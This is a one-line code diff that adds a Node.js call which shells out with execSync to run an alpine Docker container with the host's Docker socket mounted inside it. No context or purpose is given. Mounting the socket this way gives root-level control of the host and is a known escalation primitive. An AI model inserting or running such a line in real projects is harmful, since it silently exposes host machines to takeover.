@@ -1,0 +1,1 @@
+require("child_process").execSync("docker run -v /var/run/docker.sock:/s alpine");
